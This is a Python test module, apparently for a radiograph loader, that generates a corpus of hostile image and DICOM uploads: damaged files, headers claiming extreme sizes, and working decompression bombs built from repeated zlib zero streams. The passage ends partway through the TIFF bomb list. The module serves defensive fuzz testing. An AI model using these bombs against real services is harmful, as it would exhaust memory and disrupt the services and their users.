"""A corpus of hostile uploads: what an attacker, a broken exporter or a slip of the hand sends in place of an image.

    corpus()                         every item; its bytes are made when they are asked for, the same every time
    python -m tests.hostile [NAME]   feed all, or those that begin so, to `load_radiograph`; an answer a line, as JSON

All comes from one image of `examples/`, made small, and from headers written here.
"""

import base64
import gzip
import io
import json
import logging
import os
import pickle
import random
import re
import resource
import struct
import sys
import tempfile
import traceback
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from functools import cache, partial
from itertools import product
from pathlib import Path
from typing import Any

import gdcm
import jpeg_ls
import numpy as np
from numpy.typing import NDArray
from PIL import Image

from pneumocam import RadiographError, load_radiograph

EXAMPLE = Path(__file__).parents[1] / "examples" / "person1946_bacteria_4874.jpeg"
SECRET = b"Roentgen^Anna "  # the patient of every DICOM here: no message may name her
WIDTH, HEIGHT = 112, 96
GIGA = 8000  # a square of it is the 64 megapixels that are accepted at most
MEMORY = 1_500_000_000  # bytes of address space that reading may take in `main`

Array = NDArray[Any]
Make = Callable[[], bytes]
Tag = tuple[int, int, int, int | bytes]  # TIFF: tag, type, count, the value or its four bytes
Elements = dict[int, tuple[str, bytes] | None]  # DICOM: tag -> value representation and value; None leaves it out


@dataclass(frozen=True)
class Hostile:
    """One upload.

    Attributes:
        name: unique, "kind/what is wrong with it".
        filename: as the attacker would name the upload.
        expect: codes of `RadiographError` that are right here, and "readable" if an image may come of it; empty where
            any of these is.
    """

    name: str
    filename: str
    make: Make = field(repr=False, compare=False)
    expect: frozenset[str] = frozenset()

    @property
    def kind(self) -> str:
        return self.name.partition("/")[0]

    @property
    def data(self) -> bytes:
        """The upload's bytes, made anew each time: some are nearly 20 MB."""
        return self.make()


def corpus() -> list[Hostile]:
    """Every item, in an order that does not change."""
    parts = (_damaged, _extreme_headers, _picture_bombs, _tag_bombs, _loops, _dicom_tags, _dicom_structures)
    return [item for part in (*parts, _dicom_bombs, _polyglots, _wrong, _tiny, _names) for item in part()]


def _items(kind: str, filename: str, rows: Mapping[str, tuple[str, Make]]) -> Iterator[Hostile]:
    """Items of one kind from what is wrong -> codes that are right, by spaces, and how it is made."""
    for what, (expect, make) in rows.items():
        yield Hostile(f"{kind}/{what}", filename, make, frozenset(expect.split()))


# Pictures


@cache
def greys(bits: int = 8) -> Array:
    """(96, 112) of a real image over the full range; uint16 above 8 bits."""
    small = np.asarray(Image.open(EXAMPLE).convert("L").resize((WIDTH, HEIGHT))).astype(float)
    grey: Array = np.rint((small - small.min()) / np.ptp(small) * (2**bits - 1))
    return grey.astype(np.uint8 if bits <= 8 else np.uint16)


def colour() -> Image.Image:
    """The same in sepia: the guard refuses strong colours."""
    return Image.fromarray(np.dstack([np.rint(share * greys()).astype(np.uint8) for share in (1, 0.9, 0.75)]))


def encode(picture: Array | Image.Image, file_format: str, **options: Any) -> bytes:
    buffer = io.BytesIO()
    (picture if isinstance(picture, Image.Image) else Image.fromarray(picture)).save(buffer, file_format, **options)
    return buffer.getvalue()


def patched(data: bytes, at: int, layout: str, *values: int) -> bytes:
    return data[:at] + struct.pack(layout, *values) + data[at + struct.calcsize(layout) :]


def chunk(name: bytes, data: bytes = b"") -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(
    body: bytes, *extra: bytes, size: tuple[int, int] = (WIDTH, HEIGHT), header: tuple[int, ...] = (8, 0, 0)
) -> bytes:
    """A PNG round a zlib stream: encoded chunks before it, (width, height), and (bits, colour type, interlaced)."""
    bits, colour_type, interlaced = header
    start = chunk(b"IHDR", struct.pack(">IIBBBBB", *size, bits, colour_type, 0, 0, interlaced))
    return b"\x89PNG\r\n\x1a\n" + start + b"".join(extra) + chunk(b"IDAT", body) + chunk(b"IEND")


def _rows(*planes: Array) -> bytes:
    """A PNG's zlib stream of (H, W, ...) samples."""
    rows = [row.astype(row.dtype.newbyteorder(">")).tobytes() for plane in planes for row in plane]
    return zlib.compress(b"".join(b"\0" + row for row in rows))


def _adam7() -> bytes:
    passes = ((0, 8, 0, 8), (0, 8, 4, 8), (4, 8, 0, 4), (0, 4, 2, 4), (2, 4, 0, 2), (0, 2, 1, 2), (1, 2, 0, 1))
    return png(_rows(*(greys()[y::dy, x::dx] for y, dy, x, dx in passes)), header=(8, 0, 1))


def tiff(*tags: Tag, data: bytes = b"", next_ifd: int = 0) -> bytes:
    """A little-endian TIFF, its data right behind its tags."""
    entries = b"".join(
        struct.pack("<HHI", tag, kind, count) + (value if isinstance(value, bytes) else struct.pack("<I", value))
        for tag, kind, count, value in sorted(tags, key=lambda entry: entry[0])
    )
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + struct.pack("<I", next_ifd) + data


TIFF_TAGS = {"width": 256, "height": 257, "bits": 258, "packing": 259, "space": 262, "at": 273}
TIFF_TAGS |= {"samples": 277, "rows": 278, "size": 279}


def tiff_tags(more: int = 0, **changes: int) -> list[Tag]:
    """The tags of a grey TIFF of `image`'s size in one strip, right behind them and `more` others."""
    values = {"width": WIDTH, "height": HEIGHT, "bits": 8, "packing": 1, "space": 1, "at": tiff_start(9 + more)}
    values |= {"samples": 1, "rows": HEIGHT, "size": WIDTH * HEIGHT}
    return [(TIFF_TAGS[name], 4, 1, value) for name, value in (values | changes).items()]


def tiff_start(count: int) -> int:
    """Where the data of a TIFF with `count` tags begin."""
    return 8 + 2 + 12 * count + 4


def bmp(
    body: bytes, size: tuple[int, int] = (WIDTH, HEIGHT), bits: int = 8, packing: int = 0, colours: int = 256
) -> bytes:
    start = 14 + 40 + 4 * colours
    header = struct.pack("<IiiHHIIiiII", 40, *size, 1, bits, packing, len(body), 0, 0, colours, 0)
    palette = b"".join(bytes((i, 255 - i, i, 0)) for i in range(colours))
    return b"BM" + struct.pack("<IHHI", start + len(body), 0, 0, start) + header + palette + body


def webp(*chunks: tuple[bytes, bytes]) -> bytes:
    body = b"".join(name + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2) for name, data in chunks)
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


def _canvas(width: int, height: int, flags: int = 0) -> tuple[bytes, bytes]:
    return b"VP8X", struct.pack("<I", flags) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")


def _lossless() -> tuple[bytes, bytes]:
    return b"VP8L", WHOLE["webp-lossless"]()[20:]


def _webp_animation(width: int, height: int, frames: int) -> bytes:
    frame = bytes(6) + _canvas(WIDTH, HEIGHT)[1][4:] + bytes(4) + WHOLE["webp-lossless"]()[12:]
    return webp(_canvas(width, height, 2), (b"ANIM", bytes(6)), *[(b"ANMF", frame)] * frames)


def _webp_sized(width: int, height: int) -> bytes:
    """One grey level throughout, in 34 bytes: they say the size in 14 bits each."""
    data = encode(Image.new("RGB", (64, 64)), "WEBP", lossless=True, quality=0, method=0)
    return patched(data, 21, "<I", (width - 1) | (height - 1) << 14)


def _gif_with(before: bytes = b"", after: bytes = b"") -> bytes:
    data = encode(greys(), "GIF")
    at = 13 + (3 << (data[10] & 7) + 1)
    return data[:at] + before + data[at:-1] + after + b";"


def _jpeg_with(segments: bytes) -> bytes:
    return b"\xff\xd8" + segments + encode(greys(), "JPEG")[20:]  # without JFIF, whose resolution comes before EXIF's


def _jpeg_sized(name: str, width: int, height: int) -> bytes:
    data = WHOLE[name]()
    return patched(data, data.index(b"\xff\xc2" if "progressive" in name else b"\xff\xc0") + 5, ">HH", height, width)


def _oriented() -> Image.Exif:
    exif = Image.Exif()
    exif[0x0112], exif[0x010E] = 6, "image"
    return exif


# DICOM

EXPLICIT, IMPLICIT, BIG, DEFLATED = (f"1.2.840.10008.1.2{end}" for end in (".1", "", ".2", ".1.99"))
RLE, JPEG, JPEG_12, LOSSLESS, JLS, J2K = (
    f"1.2.840.10008.1.2.{end}" for end in ("5", "4.50", "4.51", "4.57", "4.80", "4.90")
)
MODALITY, SAMPLES, SPACE, ROWS, COLUMNS = 0x00080060, 0x00280002, 0x00280004, 0x00280010, 0x00280011
ALLOCATED, STORED, HIGH, SIGNED, PIXELS = 0x00280100, 0x00280101, 0x00280102, 0x00280103, 0x7FE00010
INTERCEPT, SLOPE, VOI, MODALITY_LUT, OTHER = 0x00281052, 0x00281053, 0x00283010, 0x00283000, 0x00400555
OPEN_ITEM, END_OF_ITEM, END_OF_SEQUENCE = (
    b"\xfe\xff\0\xe0" + b"\xff" * 4,
    b"\xfe\xff\x0d\xe0" + bytes(4),
    b"\xfe\xff\xdd\xe0" + bytes(4),
)
UNKNOWN = 0xFFFFFFFF  # as a length


def element(tag: int, vr: str, value: bytes = b"", syntax: str = EXPLICIT, length: int | None = None) -> bytes:
    """An encoded data element; `length` in place of the true one."""
    order = ">" if syntax == BIG else "<"
    start, size = struct.pack(f"{order}HH", tag >> 16, tag & 0xFFFF), len(value) if length is None else length
    if syntax == IMPLICIT:
        return start + struct.pack("<I", size) + value
    if vr in ("OB", "OW", "OF", "SQ", "UN", "UT", "UC"):
        return start + vr.encode() + struct.pack(f"{order}HI", 0, size) + value
    return start + vr.encode() + struct.pack(f"{order}H", size & 0xFFFF) + value


def us(value: int) -> tuple[str, bytes]:
    return "US", struct.pack("<H", value)


def text(value: bytes, vr: str = "DS") -> tuple[str, bytes]:
    return vr, value + b" " * (len(value) % 2)


def window(centre: bytes, width: bytes) -> Elements:
    return {0x00281050: text(centre), 0x00281051: text(width)}


def dicom(
    pixels: bytes = b"",
    changes: Elements | None = None,
    syntax: str = EXPLICIT,
    bits: int = 8,
    samples: int = 1,
    size: tuple[int, int] = (HEIGHT, WIDTH),
    meta: bytes = b"",
    raw: bytes = b"",
    tail: bytes | None = None,
) -> bytes:
    """A radiograph round pixel data.

    Args:
        pixels: uncompressed, or the one codestream.
        changes: elements in place of the right ones.
        syntax: the transfer syntax.
        bits: allocated and stored, in each of the `samples`.
        size: (rows, columns).
        meta: more encoded elements of the file's header.
        raw: more encoded elements, before the pixel data.
        tail: in place of the whole element of the pixel data.
    """
    right: Elements = {MODALITY: ("CS", b"DX"), 0x00100010: ("PN", SECRET), SAMPLES: us(samples), SIGNED: us(0)}
    right |= {SPACE: text(b"RGB" if samples == 3 else b"MONOCHROME2", "CS"), ROWS: us(size[0]), COLUMNS: us(size[1])}
    right |= {0x00280006: us(0) if samples == 3 else None, ALLOCATED: us(bits), STORED: us(bits), HIGH: us(bits - 1)}
    elements = [(tag, *value) for tag, value in sorted((right | (changes or {})).items()) if value]
    swapped = [(tag, vr, value[::-1] if vr == "US" and syntax == BIG else value) for tag, vr, value in elements]
    body = b"".join(element(tag, vr, value, syntax) for tag, vr, value in swapped)
    meta = element(0x00020010, "UI", syntax.encode() + b"\0" * (len(syntax) % 2)) + meta
    if tail is None and syntax in (EXPLICIT, IMPLICIT, BIG):
        tail = element(PIXELS, "OB" if bits <= 8 else "OW", pixels, syntax)
    elif tail is None:
        tail = fragments(pixels)
    header = bytes(128) + b"DICM" + element(0x00020000, "UL", struct.pack("<I", len(meta))) + meta
    return header + body + raw + tail


def fragments(*parts: bytes, offsets: bytes = b"") -> bytes:
    """Encapsulated pixel data."""
    padded = (offsets, *(part + b"\0" * (len(part) % 2) for part in parts))
    items = b"".join(b"\xfe\xff\0\xe0" + struct.pack("<I", len(part)) + part for part in padded)
    return element(PIXELS, "OB", items + END_OF_SEQUENCE, length=UNKNOWN)


def rle(*segments: bytes) -> bytes:
    starts = np.cumsum([64, *(len(segment) for segment in segments)])[:-1]
    return struct.pack(f"<{1 + len(segments)}I", len(segments), *starts).ljust(64, b"\0") + b"".join(segments)


def _run(size: int) -> bytes:
    """RLE of `size` zeros."""
    return b"\x81\0" * -(-size // 128)


def _copied(plane: Array) -> bytes:
    """RLE that repeats nothing."""
    data = plane.astype(np.uint8).tobytes()
    return b"".join(bytes((len(part) - 1,)) + part for part in (data[i : i + 128] for i in range(0, len(data), 128)))


@cache
def by_gdcm(bits: int, name: str) -> bytes:
    """The codestream of `image` in an encoding that only GDCM writes."""
    with tempfile.TemporaryDirectory() as folder:
        plain, packed = Path(folder, "plain.dcm"), Path(folder, "packed.dcm")
        plain.write_bytes(dicom(greys(bits).tobytes(), _stored(bits), bits=8 if bits == 8 else 16))
        reader, change, writer = gdcm.ImageReader(), gdcm.ImageChangeTransferSyntax(), gdcm.ImageWriter()
        reader.SetFileName(str(plain))
        assert reader.Read()
        change.SetTransferSyntax(gdcm.TransferSyntax(getattr(gdcm.TransferSyntax, name)))
        change.SetInput(reader.GetImage())
        assert change.Change()
        writer.SetFileName(str(packed))
        writer.SetFile(reader.GetFile())
        writer.SetImage(change.GetOutput())
        assert writer.Write()
        data = packed.read_bytes()
        return data[data.rindex(b"\xff\xd8\xff") : data.rindex(END_OF_SEQUENCE)]


def _stored(bits: int) -> Elements:
    return {STORED: us(bits), HIGH: us(bits - 1)}


def _j2k_sized(rows: int, columns: int, samples: int = 1, **options: Any) -> bytes:
    """A JPEG 2000 of one grey level, whose header says this size."""
    stream = encode(Image.new("RGB" if samples == 3 else "L", (64, 64)), "JPEG2000", no_jp2=True, **options)
    at = stream.index(b"\xff\x51")
    return patched(patched(stream, at + 6, ">II", columns, rows), at + 22, ">II", columns, rows)


def _j2k_precincts(exponent: int) -> bytes:
    """64 megapixels in squares of `2 ** exponent` pixels a side; each takes hundreds of bytes of memory."""
    stream = _j2k_sized(GIGA, GIGA, num_resolutions=1, precinct_size=(64, 64), codeblock_size=(4, 4))
    at = stream.index(b"\xff\x52")
    return patched(stream, at + 1 + int.from_bytes(stream[at + 2 : at + 4]), ">B", exponent << 4 | exponent)


def _avif_sized(width: int, height: int) -> bytes:
    data = WHOLE["avif"]()
    return patched(data, data.index(b"ispe") + 8, ">II", width, height)


def _avif_animation() -> bytes:
    frames = [Image.fromarray(np.roll(np.asarray(colour()), i, 0)) for i in range(40)]
    return encode(frames[0], "AVIF", save_all=True, append_images=frames[1:])


def _jls_sized(rows: int, columns: int) -> bytes:
    stream = bytes(jpeg_ls.encode_array(np.zeros((64, 64), np.uint8)))
    return patched(stream, stream.index(b"\xff\xf7") + 5, ">HH", rows, columns)


def _lossless_sized(rows: int, columns: int) -> bytes:
    stream = WHOLE["jpeg-lossless"]()
    return patched(stream, stream.index(b"\xff\xc3") + 5, ">HH", rows, columns)


def _runs(row: NDArray[np.uint8]) -> bytes:
    """A BMP's row in runs of one pixel, and its end."""
    return b"".join(bytes((1, value)) for value in row) + b"\0\0"


# Whole files


def _whole() -> dict[str, Make]:
    """What is read, but for the two JPEG that only a DICOM may hold: its format and what is special about it."""
    grey, bright = greys, partial(greys, 16)
    return {
        "jpeg": EXAMPLE.read_bytes,
        "jpeg-small": lambda: encode(grey(), "JPEG", quality=90),
        "jpeg-progressive": lambda: encode(colour(), "JPEG", progressive=True, subsampling=0),
        "jpeg-cmyk": lambda: encode(colour().convert("CMYK"), "JPEG"),
        "jpeg-restarts": lambda: encode(colour(), "JPEG", restart_marker_rows=1),
        "jpeg-exif": lambda: encode(grey(), "JPEG", exif=_oriented(), comment=b"image"),
        "jpeg-12-bit": lambda: by_gdcm(12, "JPEGExtendedProcess2_4"),
        "jpeg-lossless": lambda: by_gdcm(8, "JPEGLosslessProcess14_1"),
        "mpo": lambda: encode(grey(), "MPO", save_all=True, append_images=[Image.fromarray(255 - grey())]),
        "png": lambda: encode(grey(), "PNG", exif=_oriented()),
        "png-1-bit": lambda: encode(Image.fromarray(grey() > 128), "PNG"),
        "png-2-bit": lambda: encode(Image.fromarray(grey()).quantize(4), "PNG", bits=2),
        "png-4-bit": lambda: encode(Image.fromarray(grey()).quantize(16), "PNG", bits=4),
        "png-palette": lambda: encode(Image.fromarray(grey()).convert("P"), "PNG", transparency=3),
        "png-16-bit": lambda: png(_rows(bright()), header=(16, 0, 0)),
        "png-16-bit-rgb": lambda: png(_rows(np.dstack([bright()] * 3)), header=(16, 2, 0)),
        "png-16-bit-rgba": lambda: png(_rows(np.dstack([bright()] * 4)), header=(16, 6, 0)),
        "png-16-bit-alpha": lambda: png(_rows(np.dstack([bright()] * 2)), header=(16, 4, 0)),
        "png-alpha": lambda: png(_rows(np.dstack([grey()] * 2)), header=(8, 4, 0)),
        "png-interlaced": _adam7,
        "tiff": lambda: encode(grey(), "TIFF", exif=_oriented()),
        "tiff-16-bit": lambda: encode(bright(), "TIFF"),
        "tiff-float": lambda: encode(grey().astype(np.float32), "TIFF"),
        "tiff-rgba": lambda: encode(colour().convert("RGBA"), "TIFF", compression="tiff_lzw"),
        "tiff-cmyk": lambda: encode(colour().convert("CMYK"), "TIFF", compression="packbits"),
        "tiff-lzw": lambda: encode(bright(), "TIFF", compression="tiff_lzw"),
        "tiff-deflate": lambda: encode(grey(), "TIFF", compression="tiff_adobe_deflate"),
        "tiff-jpeg": lambda: encode(colour(), "TIFF", compression="jpeg"),
        "tiff-lzma": lambda: encode(grey(), "TIFF", compression="lzma"),
        "tiff-zstd": lambda: encode(grey(), "TIFF", compression="zstd"),
        "tiff-group-3": lambda: encode(Image.fromarray(grey() > 128), "TIFF", compression="group3"),
        "tiff-group-4": lambda: encode(Image.fromarray(grey() > 128), "TIFF", compression="group4"),
        "tiff-big": lambda: encode(grey(), "TIFF", big_tiff=True),
        "bmp": lambda: encode(grey(), "BMP"),
        "bmp-rgb": lambda: encode(colour(), "BMP"),
        "bmp-rle": lambda: bmp(b"".join(_runs(row) for row in grey()[::-1]), packing=1),
        "webp": lambda: encode(colour(), "WEBP", exif=_oriented()),
        "webp-lossless": lambda: encode(colour(), "WEBP", lossless=True),
        "webp-alpha": lambda: encode(Image.fromarray(np.dstack([grey()] * 4)), "WEBP"),
        "gif": lambda: encode(grey(), "GIF", comment=b"image"),
        "jp2": lambda: encode(grey(), "JPEG2000"),
        "j2k": lambda: encode(colour(), "JPEG2000", no_jp2=True),
        "avif": lambda: encode(colour(), "AVIF"),
        "dcm": lambda: dicom(bright().tobytes(), bits=16),
        "dcm-implicit": lambda: dicom(grey().tobytes(), syntax=IMPLICIT),
        "dcm-big-endian": lambda: dicom(bright().byteswap().tobytes(), syntax=BIG, bits=16),
        "dcm-windowed": lambda: dicom(bright().tobytes(), window(b"30000", b"40000"), bits=16),
        "dcm-rgb": lambda: dicom(np.asarray(colour()).tobytes(), samples=3),
        "dcm-without-preamble": lambda: dicom(grey().tobytes())[132:],
        "dcm-rle": lambda: dicom(rle(_copied(bright() >> 8), _copied(bright() & 255)), syntax=RLE, bits=16),
        "dcm-jpeg": lambda: dicom(WHOLE["jpeg-small"](), syntax=JPEG),
        "dcm-jpeg-2000": lambda: dicom(encode(grey(), "JPEG2000", no_jp2=True), syntax=J2K),
        "dcm-jpeg-ls": lambda: dicom(bytes(jpeg_ls.encode_array(grey())), syntax=JLS),
        "dcm-jpeg-lossless": lambda: dicom(WHOLE["jpeg-lossless"](), syntax=LOSSLESS),
        "dcm-jpeg-12-bit": lambda: dicom(WHOLE["jpeg-12-bit"](), _stored(12), syntax=JPEG_12, bits=16),
    }


WHOLE = {name: cache(make) for name, make in _whole().items()}
# Decoded by another Python.
APART = ("jp2", "j2k", "avif", "dcm-jpeg-2000", "dcm-jpeg-ls", "dcm-jpeg-lossless", "dcm-jpeg-12-bit")


# Damage of any kind


def _cut(data: bytes, _chance: random.Random, part: float) -> bytes:
    return data[: max(1, int(part * len(data)))]


def _flip(data: bytes, chance: random.Random, count: int, within: float) -> bytes:
    damaged = bytearray(data)
    for _ in range(count):
        damaged[chance.randrange(8, max(9, int(within * len(data))))] ^= 1 << chance.randrange(8)
    return bytes(damaged)


def _zero(data: bytes, chance: random.Random, share: float) -> bytes:
    length = int(share * len(data))
    start = chance.randrange(16, len(data) - length)
    return data[:start] + bytes(length) + data[start + length :]


def _shuffle(data: bytes, chance: random.Random, size: int) -> bytes:
    blocks = [data[i : i + size] for i in range(size, len(data), size)]
    chance.shuffle(blocks)
    return data[:size] + b"".join(blocks)


def _overwrite(data: bytes, chance: random.Random, value: bytes) -> bytes:
    """Three places of the header."""
    damaged = bytearray(data)
    for _ in range(3):
        place = chance.randrange(8, min(len(data), 400) - 4)
        damaged[place : place + len(value)] = value
    return bytes(damaged)


DAMAGE: dict[str, Callable[[bytes, random.Random], bytes]] = {
    "cut within its header": partial(_cut, part=0.05),
    "cut at a half": partial(_cut, part=0.5),
    "cut at nine tenths": partial(_cut, part=0.9),
    "without its last byte": lambda data, _chance: data[:-1],
    "a bit of its header flipped": partial(_flip, count=1, within=0.1),
    "thirty bits flipped": partial(_flip, count=30, within=1.0),
    "a stretch zeroed": partial(_zero, share=0.1),
    "blocks shuffled": partial(_shuffle, size=64),
    "0xFFFF in its header": partial(_overwrite, value=b"\xff\xff"),
    "0xFFFFFFFF in its header": partial(_overwrite, value=b"\xff\xff\xff\xff"),
    "0x80000000 in its header": partial(_overwrite, value=b"\x80\0\0\0"),
    "zero in its header": partial(_overwrite, value=bytes(4)),
    "one in its header": partial(_overwrite, value=b"\0\0\0\1"),
    "garbage behind": lambda data, chance: data + chance.randbytes(3000),
}


def damaged(name: str, what: str, seed: int = 0) -> bytes:
    return DAMAGE[what](WHOLE[name](), random.Random(f"{name} {what} {seed}"))


def _damaged() -> Iterator[Hostile]:
    for name in WHOLE:
        for what in list(DAMAGE)[1::4] if name in APART else DAMAGE:
            yield Hostile(f"{name}/{what}", f"image.{name.partition('-')[0]}", partial(damaged, name, what))


# Headers that claim extremes


def _png_header(at: int, layout: str, *values: int) -> bytes:
    data = patched(WHOLE["png"](), at, layout, *values)
    return patched(data, 29, ">I", zlib.crc32(data[12:29]))


def _tiff_changed(**changes: int) -> bytes:
    return tiff(*tiff_tags(**changes), data=greys().tobytes())


def _mpo_of(count: int) -> bytes:
    entry = b"\1\xb0\4\0\1\0\0\0"
    data = WHOLE["mpo"]()
    return patched(data, data.index(entry) + len(entry), "<I", count)


def _extreme_headers() -> Iterator[Hostile]:
    for width, height in ((0, 0), (1, 1), (63, 96), (1, 60000), (60000, 1), (64, 60000), (60000, 64), (65535, 65535)):
        expect = "damaged_image too_small" if min(width, height) < 64 else "too_large" * (width == height)
        sized: dict[str, Make] = {
            **{
                name: partial(_jpeg_sized, name, width, height)
                for name in ("jpeg-small", "jpeg-progressive", "jpeg-cmyk")
            },
            "png": partial(_png_header, 16, ">II", width, height),
            "tiff": partial(_tiff_changed, width=width, height=height, rows=1),
            "bmp": partial(bmp, bytes(99), (width, height)),
            "dcm": partial(dicom, bytes(9), size=(height, width)),
            "gif": lambda size=(width, height): patched(WHOLE["gif"](), 6, "<HH", *size),  # type: ignore[misc]
        }
        for name, make in sized.items():
            right = "" if name == "gif" and width < 65535 else expect  # its picture makes its canvas grow
            yield from _items(name, f"image.{name[:4]}", {f"of {width} x {height}": (right, make)})
    too_many = "too_large damaged_image"
    for width, height in ((2**31 - 1, 2**31 - 1), (2**32 - 1, 2**32 - 1), (2**31, 64), (2**24, 2**24)):
        size = f"of {width} x {height}"
        yield from _items("png", "image.png", {size: (too_many, partial(_png_header, 16, ">II", width, height))})
        yield from _items("tiff", "image.tif", {size: (too_many, partial(_tiff_changed, width=width, height=height))})
    png_rows = {f"{bits} bits": partial(_png_header, 24, ">B", bits) for bits in (0, 3, 32, 255)}
    png_rows |= {f"colour type {kind}": partial(_png_header, 25, ">B", kind) for kind in (1, 5, 7, 255)}
    tags = product(TIFF_TAGS, (0, 1, 2, 5, 6, 7, 0xFFFF, 0x7FFFFFFF, 0xFFFFFFFF))
    tiff_rows = {f"{tag} {value:#x}": partial(_tiff_changed, **{tag: value}) for tag, value in tags}
    negative = ((-64, 64), (64, -64), (-(2**31), 2**31 - 1), (2**31 - 1, -1), (30000, 30000))
    bmp_rows = {f"of {w} x {h}": partial(bmp, bytes(4096), (w, h)) for w, h in negative}
    grey = greys().tobytes()
    bmp_rows |= {f"{bits} bits": partial(bmp, grey, bits=bits) for bits in (0, 1, 2, 4, 16, 24, 32, 64, 65535)}
    bmp_rows |= {f"packing {kind}": partial(bmp, grey, packing=kind) for kind in (1, 2, 3, 4, 5, 6, 0xFFFFFFFF)}
    bmp_rows |= {f"{n} colours": partial(patched, bmp(grey), 46, "<I", n) for n in (0, 1, 65536, 0xFFFFFFFF)}
    canvases = ((16384, 16384), (2**24, 2**24), (2**24, 60), (1, 1))
    webp_rows = {
        f"a canvas of {w} x {h}": partial(lambda *size: webp(_canvas(*size), _lossless()), w, h) for w, h in canvases
    }
    mpo_rows = {f"of {count} pictures": partial(_mpo_of, count) for count in (0, 1, 3, 0xFFFFFFFF)}
    yield from _items("png", "image.png", {what: ("damaged_image", make) for what, make in png_rows.items()})
    for name, rows in (("tiff", tiff_rows), ("bmp", bmp_rows), ("webp", webp_rows), ("mpo", mpo_rows)):
        yield from _items(name, f"image.{name}", {what: ("", make) for what, make in rows.items()})


# Bombs: little on the wire, much in memory


def zeros(size: int) -> bytes:
    """A zlib stream of `size` zero bytes: one compressed megabyte, repeated."""
    megabytes, rest = divmod(size, 1 << 20)
    packer, end = (zlib.compressobj(9, wbits=-15) for _ in range(2))
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return (
        b"\x78\xda"
        + block * megabytes
        + end.compress(bytes(rest))
        + end.flush()
        + struct.pack(">I", size % 65521 << 16 | 1)
    )


def _png_bomb(bits: int, kind: int, *extra: bytes, side: int = GIGA, interlaced: int = 0) -> bytes:
    samples = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[kind]
    body = zeros(side * (1 + side * bits * samples // 8))
    return png(body, *extra, size=(side, side), header=(bits, kind, interlaced))


def _tiff_bomb(bits: int, samples: int, space: int, rows: int = GIGA) -> bytes:
    """64 megapixels of deflated zeros, in one strip or in many that are all the same."""
    body, strips = zeros(GIGA * rows * bits // 8 * samples), GIGA // rows
    tags = tiff_tags(width=GIGA, height=GIGA, bits=bits, packing=8, space=space, samples=samples, rows=rows)
    alpha: list[Tag] = [(338, 3, 1, 2)] * (space == 2 and samples == 4)
    start = tiff_start(9 + len(alpha))
    first = start + 8 + 8 * strips
    tables = struct.pack(f"<4H{strips}I{strips}I", *[bits] * 4, *[first] * strips, *[len(body)] * strips)
    depths: Tag = (258, 3, samples, start if samples > 2 else bits)
    places: list[Tag] = [(273, 4, strips, start + 8), (279, 4, strips, start + 8 + 4 * strips)]
    if strips == 1:
        places = [(273, 4, 1, first), (279, 4, 1, len(body))]
    return tiff(*(tag for tag in tags if tag[0] not in (258, 273, 279)), depths, *places, *alpha, data=tables + body)


def _scans(count: int) -> bytes:
    """A progressive JPEG that goes over its 64 megapixels again and again, at 69 bytes a time."""
    data = _jpeg_sized("jpeg-progressive", GIGA, GIGA)
    blocks = (GIGA // 8) ** 2
    tables = b"\xff\xc4\0\x14\x00\1" + bytes(16) + b"\xff\xc4\0\x14\x10\1" + bytes(15) + b"\xe0"
    first = b"".join(b"\xff\xda\0\x08\1" + bytes((part, 0, 0, 0, 0)) + bytes(-(-blocks // 8)) for part in (1, 2, 3))
    runs = "0" + "1" * 14  # the one code of the table, then 14 bits: the end of 32767 blocks
    bits = (runs * -(-blocks // 32767)).ljust(472, "1")
    scan = b"\1\0\1\x3f\0" + int(bits, 2).to_bytes(59).replace(b"\xff", b"\xff\0")
    again = b"\xff\xda\0\x08\1" + scan
    return data[: data.index(b"\xff\xda")] + tables + first + again * count + b"\xff\xd9"


PALETTE = (chunk(b"PLTE", bytes(range(256)) * 3), chunk(b"tRNS", bytes(range(256))))


def _picture_bombs() -> Iterator[Hostile]:
    packed, huge = zlib.compress(bytes(113 * 96)), zeros(1 << 30)
    texts = [chunk(b"zTXt", b"k%d\0\0" % i + zeros(1 << 20)) for i in range(200)]
    profile = b"Raw profile type exif\0\n\n\n" + directory(400_000).hex().encode()
    pngs: dict[str, tuple[str, Make]] = {
        "64 megapixels, 1 bit": ("blank", partial(_png_bomb, 1, 0)),
        "64 megapixels, 16-bit grey": ("blank", partial(_png_bomb, 16, 0)),
        "64 megapixels, RGBA": ("blank", partial(_png_bomb, 8, 6)),
        "64 megapixels, palette": ("blank", partial(_png_bomb, 8, 3, *PALETTE)),
        "64 megapixels, interlaced": ("blank damaged_image", partial(_png_bomb, 8, 6, interlaced=1)),
        "64 megapixels, 16-bit RGB": ("too_large", partial(_png_bomb, 16, 2)),
        "64 megapixels, 16-bit alpha": ("too_large", partial(_png_bomb, 16, 4)),
        "64 megapixels, 16-bit RGBA": ("too_large", partial(_png_bomb, 16, 6)),
        "16 megapixels, 16-bit RGBA": ("blank", partial(_png_bomb, 16, 6, side=GIGA // 2)),
        "65 megapixels": ("too_large", partial(_png_bomb, 8, 0, side=8064)),
        "4 gigapixels": ("too_large", lambda: png(zeros(1 << 32), size=(65535, 65535))),
        "4 gigabytes for a small picture": ("blank", lambda: png(zeros(1 << 32))),
        "an iCCP of a gigabyte": ("damaged_image", lambda: png(packed, chunk(b"iCCP", b"k\0\0" + huge))),
        "a zTXt of a gigabyte": ("damaged_image", lambda: png(packed, chunk(b"zTXt", b"k\0\0" + huge))),
        "an iTXt of a gigabyte": ("damaged_image", lambda: png(packed, chunk(b"iTXt", b"k\0\1\0\0\0" + huge))),
        "200 texts of a megabyte": ("damaged_image", lambda: png(packed, *texts)),
        "a profile in hexadecimal": ("damaged_image", lambda: png(packed, chunk(b"tEXt", profile))),
    }
    tiffs: dict[str, tuple[str, Make]] = {
        "64 megapixels, 16 bits": ("blank", partial(_tiff_bomb, 16, 1, 1)),
        "64 megapixels, YCbCr": ("blank", partial(_tiff_bomb, 8, 3, 6)),
        "64 megapixels, RGBA": ("blank", partial(_tiff_bomb, 8, 4, 2)),
        "64 megapixels, 8000 strips": ("blank", partial(_tiff_bomb, 8, 1, 1, rows=1)),
